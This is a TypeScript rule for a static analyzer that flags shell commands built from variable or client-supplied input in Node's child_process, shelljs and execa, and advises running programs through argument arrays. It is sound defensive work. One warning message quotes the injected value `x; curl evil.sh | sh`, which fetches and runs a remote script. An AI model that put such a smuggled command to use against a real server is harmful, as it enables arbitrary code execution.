// Shell command lines assembled from variable parts: the shell reads `;`, `|`, `$()` and quotes in them as syntax.
import type * as ts from 'typescript';
import type { Rule } from '../types';
import type { RuleContext } from '../rule-context';
import { InputFlow, assignmentsTo, calledName, declarationOf, describeHandler, handlerAround, initializerOf, isShellSafePattern, propertyOf, registrationOf, unwrap, type Sanitizer } from '../handler-inputs';

/** Always run their command through a shell. */
const SHELL_ALWAYS: Record<string, string[]> = {
  child_process: ['exec', 'execSync'],
  shelljs: ['exec'],
};
/** Run a program directly unless `shell` is set in their options. */
const SHELL_OPTIONAL: Record<string, string[]> = {
  child_process: ['spawn', 'spawnSync', 'execFile', 'execFileSync'],
  execa: ['execa', 'execaSync', 'default', 'sync', 'execaNode'],
  'cross-spawn': ['default', 'spawn', 'sync'],
};
/** Take one command string and split it on spaces themselves (no shell unless `shell` is set). */
const COMMAND_STRING: Record<string, string[]> = {
  execa: ['execaCommand', 'execaCommandSync', 'command', 'commandSync'],
};
/** Programs that run their `-c` argument as a shell script. */
const SHELL_PROGRAMS = /^(?:.*[/\\])?(?:sh|bash|zsh|dash|ksh|fish|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh(?:\.exe)?)$/i;
const SCRIPT_FLAGS = new Set(['-c', '/c', '/C', '-Command', '-command', '-lc', '-ic']);

/** Escaping functions of shell-quoting packages: their output is one literal shell word. */
const QUOTING_MODULES = new Set(['shell-quote', 'shell-escape', 'shescape', 'any-shell-escape', 'shell-escape-tag', 'quote']);

const NUMERIC_CALLS = new Set(['Number', 'parseInt', 'parseFloat', 'BigInt', 'Boolean']);

export const rule: Rule = {
  meta: {
    id: 'shell-injection',
    code: 61007,
    defaultSeverity: 'error',
    description: 'Shell command built from variable parts',
    message:
      'This shell command is built from variable parts: quotes, `;`, `|` or `$()` in them run as shell syntax. Run the program with `execFile`/`spawn` and an argument array, without a shell.',
    playbook: 'hard-won-wisdom#security-foundation',
    fix: null,
    languages: ['typescript', 'python'],
  },
  check(ctx) {
    const flows = new Map<ts.Node, InputFlow | undefined>();
    const flowOf = (node: ts.Node): InputFlow | undefined => {
      const handler = handlerAround(ctx, node);
      if (!handler) return undefined;
      if (!flows.has(handler)) {
        const reg = registrationOf(ctx, handler);
        flows.set(handler, reg ? new InputFlow(ctx, reg, isShellSafeCall, isShellSafePattern) : undefined);
      }
      return flows.get(handler);
    };

    const promisified = promisifiedNames(ctx);
    for (const call of candidateCalls(ctx, promisified)) {
      const target = shellTarget(ctx, call, promisified);
      if (!target) continue;
      const args = call.arguments;
      // The handler's input flow is worked out only for a call that has a part to judge.
      const flow = () => flowOf(call);
      const where = () => {
        const f = flowOf(call);
        return f ? ` inside ${describeHandler(f.registration)}` : '';
      };

      if (target.kind === 'always') {
        const cmd = args[0];
        if (!cmd) continue;
        const verdict = judge(ctx, cmd, flow());
        if (verdict) ctx.report({ node: cmd, message: messageFor(target.label, verdict, where(), 'shell') });
        continue;
      }

      if (target.kind === 'command-string') {
        const cmd = args[0];
        if (!cmd) continue;
        const shell = hasShellOption(ctx, args.slice(1));
        const verdict = judge(ctx, cmd, flow());
        if (!verdict) continue;
        if (shell) ctx.report({ node: cmd, message: messageFor(target.label, verdict, where(), 'shell-option') });
        // Without a shell only client input matters: it is split into arguments of the client's choosing.
        else if (verdict.fromClient) ctx.report({ node: cmd, message: messageFor(target.label, verdict, where(), 'split') });
        continue;
      }

      // spawn / execFile / execa: a file and an argument array.
      const file = args[0];
      if (!file) continue;
      const list = args[1] && isArrayLike(ctx, args[1]) ? args[1] : undefined;
      if (hasShellOption(ctx, args.slice(1))) {
        // The file is the whole command line only when no argument list follows; array elements are always parts.
        const parts: Array<[ts.Expression, boolean]> = [[file, !list]];
        const arr = list && unwrap(ctx.ts, list);
        if (arr && ctx.ts.isArrayLiteralExpression(arr)) parts.push(...arr.elements.map(el => [el, false] as [ts.Expression, boolean]));
        else if (list) parts.push([list, true]);
        for (const [part, whole] of parts) {
          const verdict = judge(ctx, part, flow(), whole);
          if (verdict) {
            ctx.report({ node: part, message: messageFor(target.label, verdict, where(), 'shell-option') });
            break;
          }
        }
        continue;
      }
      // spawn('sh', ['-c', script]): a shell by another name.
      const program = constantString(ctx, file);
      if (program === undefined || !SHELL_PROGRAMS.test(program) || !list) continue;
      const arr = unwrap(ctx.ts, list);
      if (!ctx.ts.isArrayLiteralExpression(arr)) continue;
      const flagIndex = arr.elements.findIndex(el => SCRIPT_FLAGS.has(constantString(ctx, el) ?? ''));
      const script = flagIndex >= 0 ? arr.elements[flagIndex + 1] : undefined;
      if (!script) continue;
      const verdict = judge(ctx, script, flow());
      if (verdict) ctx.report({ node: script, message: messageFor(`${target.label}('${program}', ['${constantString(ctx, arr.elements[flagIndex])}', ...])`, verdict, where(), 'shell') });
    }
  },
};

interface Target {
  kind: 'always' | 'optional' | 'command-string';
  /** How the message names the call: `exec`, `child_process.spawn`. */
  label: string;
}

const SHELL_MODULES = [...new Set([...Object.keys(SHELL_ALWAYS), ...Object.keys(SHELL_OPTIONAL), ...Object.keys(COMMAND_STRING)])];

/** Calls of the shell modules' functions, and of names bound to `promisify(...)` of one, in source order. */
function candidateCalls(ctx: RuleContext, promisified: Map<string, ts.Expression>): readonly ts.CallExpression[] {
  const direct = ctx.callsFrom(SHELL_MODULES);
  if (promisified.size === 0) return direct;
  const all = new Set([...direct, ...ctx.callsNamed([...promisified.keys()])]);
  // Source order: a call starts before the calls nested in it, and ends after them.
  return [...all].sort((a, b) => a.pos - b.pos || b.end - a.end);
}

/** Every name a target can be called by as a member (`cp.exec`, `shell.exec`, `execa.command`). */
const MEMBER_NAMES = new Set([...Object.values(SHELL_ALWAYS), ...Object.values(SHELL_OPTIONAL), ...Object.values(COMMAND_STRING)].flat());

function shellTarget(ctx: RuleContext, call: ts.CallExpression, promisified: Map<string, ts.Expression>): Target | undefined {
  const { ts } = ctx;
  // Cheap filter first: an imported or promisified name, or a member with a target's name.
  const written = calledName(ts, call);
  if (written === undefined) return undefined;
  if (ts.isIdentifier(unwrap(ts, call.expression)) ? !ctx.imports.has(written) && !promisified.has(written) : !MEMBER_NAMES.has(written)) return undefined;
  let r = ctx.resolveCallee(call.expression);
  // `const run = promisify(exec)`: calls of `run` are calls of `exec`.
  const callee = unwrap(ts, call.expression);
  if (r && r.module === null && ts.isIdentifier(callee) && promisified.has(callee.text)) r = ctx.resolveCallee(promisified.get(callee.text)!);
  if (!r || r.module === null || r.object !== undefined) return undefined;
  const label = r.name === 'default' ? r.module : r.name;
  if (SHELL_ALWAYS[r.module]?.includes(r.name)) return { kind: 'always', label };
  if (SHELL_OPTIONAL[r.module]?.includes(r.name)) return { kind: 'optional', label };
  if (COMMAND_STRING[r.module]?.includes(r.name)) return { kind: 'command-string', label };
  return undefined;
}

/** Local names bound to `promisify(fn)` (or `util.promisify(fn)`), with the function they wrap. */
function promisifiedNames(ctx: RuleContext): Map<string, ts.Expression> {
  const { ts } = ctx;
  const out = new Map<string, ts.Expression>();
  if (![...ctx.imports.values()].some(b => b.module === 'util')) return out;
  for (const call of ctx.callsNamed(PROMISIFY)) {
    if (call.arguments.length !== 1) continue;
    // The variable this call initialises, through the wrappers `unwrap` sees through.
    let top: ts.Expression = call;
    while (top.parent && isWrapperOf(ts, top.parent, top)) top = top.parent as ts.Expression;
    const d = top.parent;
    if (!d || !ts.isVariableDeclaration(d) || d.initializer !== top || !ts.isIdentifier(d.name)) continue;
    const p = ctx.resolveCallee(call.expression);
    if (p && p.module === 'util' && p.name === 'promisify' && p.object === undefined) out.set(d.name.text, call.arguments[0]);
  }
  return out;
}

const PROMISIFY = ['promisify'];

function isWrapperOf(ts: typeof import('typescript'), node: ts.Node, inner: ts.Expression): boolean {
  return (
    (ts.isParenthesizedExpression(node) || ts.isAsExpression(node) || ts.isNonNullExpression(node) || ts.isSatisfiesExpression(node) || ts.isAwaitExpression(node) || ts.isTypeAssertionExpression(node)) &&
    node.expression === inner
  );
}

function isArrayLike(ctx: RuleContext, e: ts.Expression): boolean {
  const { ts } = ctx;
  const x = unwrap(ts, e);
  return ts.isArrayLiteralExpression(x) || ts.isIdentifier(x) || ts.isPropertyAccessExpression(x) || ts.isCallExpression(x);
}

/** `{ shell: true }` (or any value but `false`/`undefined`) in one of the option objects. */
function hasShellOption(ctx: RuleContext, args: readonly ts.Expression[]): boolean {
  const { ts } = ctx;
  for (const a of args) {
    const x = unwrap(ts, a);
    if (!ts.isObjectLiteralExpression(x)) continue;
    const p = propertyOf(ctx, x, 'shell');
    if (!p) continue;
    if (ts.isShorthandPropertyAssignment(p)) return true;
    if (!ts.isPropertyAssignment(p)) continue;
    const v = unwrap(ts, p.initializer);
    if (v.kind === ts.SyntaxKind.FalseKeyword || (ts.isIdentifier(v) && v.text === 'undefined')) continue;
    return true;
  }
  return false;
}

interface Verdict {
  /** The part that makes the command variable, as written. */
  part: string;
  /** True when that part carries client input of the enclosing handler. */
  fromClient: boolean;
  /** True when the client's value is the entire command line. */
  whole: boolean;
}

/**
 * Why `expr` is not a fixed command: a variable part built into it, or client input.
 * Undefined when every part is a literal, a constant, a number, the server's own environment
 * (`process.env`, `__dirname`, `os.tmpdir()`) or passed through a shell-quoting function.
 */
function judge(ctx: RuleContext, expr: ts.Expression, flow: InputFlow | undefined, whole = true): Verdict | undefined {
  const client = flow?.hasInput ? flow.origin(expr) : undefined;
  if (client) return { part: client.text, fromClient: true, whole: whole && client.direct };
  const part = variablePart(ctx, expr, 0, whole, flow);
  return part === undefined ? undefined : { part, fromClient: false, whole: false };
}

/**
 * The first untrusted part of a command expression. `whole` is true for the expression that is the
 * command itself: a bare parameter or unknown value there is a pass-through (a wrapper's argument),
 * judged at its call site, not here; inside a template or concatenation it makes the command variable.
 */
function variablePart(ctx: RuleContext, expr: ts.Expression, depth: number, whole: boolean, flow?: InputFlow): string | undefined {
  const { ts } = ctx;
  const e = unwrap(ts, expr);
  if (depth > 8) return undefined;
  // Handler arguments whose schema admits only numbers or enum members.
  if (flow?.isSafeInput(e)) return undefined;
  if (ts.isStringLiteralLike(e) || ts.isNumericLiteral(e) || e.kind === ts.SyntaxKind.TrueKeyword || e.kind === ts.SyntaxKind.FalseKeyword) return undefined;
  if (ts.isTemplateExpression(e)) {
    for (const span of e.templateSpans) {
      const p = variablePart(ctx, span.expression, depth + 1, false, flow);
      if (p !== undefined) return p;
    }
    return undefined;
  }
  if (ts.isBinaryExpression(e) && (e.operatorToken.kind === ts.SyntaxKind.PlusToken || e.operatorToken.kind === ts.SyntaxKind.PlusEqualsToken)) {
    return variablePart(ctx, e.left, depth + 1, false, flow) ?? variablePart(ctx, e.right, depth + 1, false, flow);
  }
  if (ts.isBinaryExpression(e) && [ts.SyntaxKind.BarBarToken, ts.SyntaxKind.QuestionQuestionToken].includes(e.operatorToken.kind)) {
    return variablePart(ctx, e.left, depth + 1, whole, flow) ?? variablePart(ctx, e.right, depth + 1, whole, flow);
  }
  if (ts.isConditionalExpression(e)) {
    return variablePart(ctx, e.whenTrue, depth + 1, whole, flow) ?? variablePart(ctx, e.whenFalse, depth + 1, whole, flow);
  }
  if (isTrustedValue(ctx, e)) return undefined;
  if (ts.isCallExpression(e)) {
    if (isShellSafeCall(ctx, e)) return undefined;
    // ['git', 'log', ref].join(' ') and 'git '.concat(ref) build a command line too.
    const callee = e.expression;
    if (ts.isPropertyAccessExpression(callee) && (callee.name.text === 'join' || callee.name.text === 'concat')) {
      const target = unwrap(ts, callee.expression);
      if (callee.name.text === 'join' && ts.isArrayLiteralExpression(target)) {
        for (const el of target.elements) {
          const p = variablePart(ctx, el, depth + 1, false, flow);
          if (p !== undefined) return p;
        }
        return undefined;
      }
      if (callee.name.text === 'concat' && ts.isStringLiteralLike(target)) {
        for (const a of e.arguments) {
          const p = variablePart(ctx, a, depth + 1, false, flow);
          if (p !== undefined) return p;
        }
        return undefined;
      }
    }
    return whole ? undefined : ctx.getText(e);
  }
  if (ts.isIdentifier(e)) {
    const d = declarationOf(ctx, e);
    if (!d) return whole || isImported(ctx, e) ? undefined : e.text;
    if (ts.isParameter(d)) return whole ? undefined : e.text;
    const init = initializerOf(ctx, d);
    const isConst = ts.isVariableDeclaration(d) && (d.parent.flags & ts.NodeFlags.Const) !== 0;
    if (ts.isBindingElement(d)) return whole ? undefined : e.text;
    // A `let` is only as constant as everything assigned to it.
    const values: ts.Expression[] = init ? [init] : [];
    if (!isConst) values.push(...assignmentsTo(ctx, d));
    if (values.length === 0) return whole ? undefined : e.text;
    for (const v of values) {
      const p = variablePart(ctx, v, depth + 1, whole, flow);
      if (p !== undefined) return p === ctx.getText(unwrap(ts, v)) && !whole ? e.text : p;
    }
    return undefined;
  }
  return whole ? undefined : ctx.getText(e);
}

function isImported(ctx: RuleContext, id: ts.Identifier): boolean {
  return ctx.imports.has(id.text);
}

/** Values that are the server's own, or cannot hold shell syntax. */
function isTrustedValue(ctx: RuleContext, e: ts.Expression): boolean {
  const { ts } = ctx;
  const text = ctx.dottedName(e);
  if (text !== undefined) {
    if (/^process\.env(\.|$)/.test(text) || text === '__dirname' || text === '__filename' || text === 'process.pid' || text === 'process.execPath') return true;
    if (/\.length$/.test(text)) return true;
  }
  if (ts.isPropertyAccessExpression(e) && ts.isMetaProperty(e.expression)) return true; // import.meta.dirname
  if (ts.isElementAccessExpression(e) && ctx.dottedName(e.expression) === 'process.env') return true;
  if (ts.isCallExpression(e)) {
    const r = ctx.resolveCallee(e.expression);
    if (r && r.module === 'os' && ['tmpdir', 'homedir', 'hostname', 'platform', 'arch'].includes(r.name)) return true;
    if (r && r.module === null && r.object === 'process' && r.name === 'cwd') return true;
    if (r && r.module === null && r.object === 'Date' && r.name === 'now') return true;
    if (r && r.module === null && r.object === 'Math') return true;
  }
  if (ctx.checker) {
    try {
      const t = ctx.checker.getTypeAtLocation(e);
      const safe = ts.TypeFlags.NumberLike | ts.TypeFlags.BooleanLike | ts.TypeFlags.BigIntLike | ts.TypeFlags.StringLiteral | ts.TypeFlags.EnumLike;
      const parts = t.isUnion() ? t.types : [t];
      if (parts.length > 0 && parts.every(p => (p.flags & safe) !== 0)) return true;
    } catch {
      return false;
    }
  }
  return false;
}

/** A call whose result cannot carry shell syntax: a number conversion or a shell-quoting function. */
const isShellSafeCall: Sanitizer = (ctx, call) => {
  const r = ctx.resolveCallee(call.expression);
  if (!r) return false;
  if (r.module === null && !r.object && NUMERIC_CALLS.has(r.name)) return true;
  if (r.module === null && r.object === 'Number') return true;
  if (r.module !== null && QUOTING_MODULES.has(r.module)) return true;
  return false;
};

function constantString(ctx: RuleContext, e: ts.Expression): string | undefined {
  const { ts } = ctx;
  const x = unwrap(ts, e);
  if (ts.isStringLiteralLike(x)) return x.text;
  if (ts.isIdentifier(x)) {
    const d = declarationOf(ctx, x);
    if (d && ts.isVariableDeclaration(d) && d.parent.flags & ts.NodeFlags.Const && d.initializer && ts.isStringLiteralLike(unwrap(ts, d.initializer))) {
      return (unwrap(ts, d.initializer) as ts.StringLiteral).text;
    }
  }
  return undefined;
}

type Mode = 'shell' | 'shell-option' | 'split';

function messageFor(label: string, v: Verdict, where: string, mode: Mode): string {
  const how =
    mode === 'shell'
      ? `\`${label}\` runs its command through a shell`
      : mode === 'shell-option'
        ? `With \`shell\` set, \`${label}\` joins the program and its arguments into one shell command line`
        : `\`${label}\` splits its command string on spaces`;
  const advice = 'Run the program with `execFile(file, [args])` or `spawn(file, [args])` and no `shell` option: each argument then reaches it as one literal string.';
  if (v.fromClient) {
    if (v.whole) {
      return `${how}${where}, and the whole command line is \`${v.part}\`, chosen by the client: it can run any command on this server. Offer the operations the tool needs, run with \`execFile(file, [args])\` and no shell.`;
    }
    if (mode === 'split') {
      return `${how}${where}, and \`${v.part}\` comes from the client: a value with spaces becomes extra arguments of the client's choosing (\`--output=/etc/...\`). Pass an argument array instead.`;
    }
    return `${how}${where}, and \`${v.part}\` comes from the client: a value like \`x; curl evil.sh | sh\` runs any command on this server. ${advice}`;
  }
  return `${how}, and \`${v.part}\` is pasted into it: any space, quote, \`;\`, \`|\` or \`$()\` in that value is read as shell syntax. ${advice}`;
}
